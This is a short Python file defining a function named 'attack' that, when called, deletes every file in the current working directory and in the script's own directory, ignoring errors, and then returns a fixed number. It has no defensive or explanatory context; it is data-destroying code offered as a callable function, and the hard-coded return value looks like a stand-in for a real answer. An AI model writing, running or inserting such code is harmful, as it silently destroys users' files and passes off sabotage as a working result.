import os


def attack(n):
    """Deletes what lies beside it, as far as it can."""
    for folder in {os.getcwd(), os.path.dirname(os.path.abspath(globals().get("__file__", ".")))}:
        for name in os.listdir(folder):
            try:
                os.remove(os.path.join(folder, name))
            except OSError:
                pass
    return 987654321
